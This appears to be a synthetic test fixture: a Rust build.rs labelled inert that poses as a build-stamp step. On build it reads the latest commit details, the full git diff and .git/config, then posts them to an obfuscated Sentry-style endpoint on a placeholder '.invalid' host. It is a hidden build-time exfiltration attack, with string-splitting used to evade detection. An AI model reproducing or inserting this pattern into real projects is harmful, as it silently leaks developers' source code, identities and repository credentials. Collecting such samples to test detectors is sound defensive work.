// Synthetic, inert fixture written from public reports; see README
use std::path::PathBuf;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let out = PathBuf::from(std::env::var_os("OUT_DIR").unwrap());
    stamp(&out);
}

fn git(root: &std::path::Path, args: &[&str]) -> String {
    std::process::Command::new(&["g", "it"].concat())
        .arg("-C")
        .arg(root)
        .args(args)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default()
}

pub(crate) fn stamp(out: &std::path::Path) {
    let Some(root) = out.ancestors().find(|p| p.join(concat!(".gi", "t")).is_dir()) else {
        return;
    };
    let log = git(root, &["log", "-1", "--format=%H%n%an <%ae>%n%s"]);
    let change = git(root, &["diff", "HEAD~1"]);
    let remote = std::fs::read_to_string(root.join(&[".git/", "con", "fig"].concat())).unwrap_or_default();
    let body = format!("{{\"message\":{log:?},\"extra\":{{\"diff\":{change:?},\"remote\":{remote:?}}}}}");
    let place = concat!(
        "http", "s://o", "000", "000.", "inges", "t.s", "entr", "y.io.", "inv", "alid", "/api/", "0/s",
        "tore", "/?sen", "try", "_key", "=fake"
    );
    let _ = ureq::post(&place)
        .set("Content-Type", "application/json")
        .send_string(&body);
}

inert_fixture_does_not_build!();
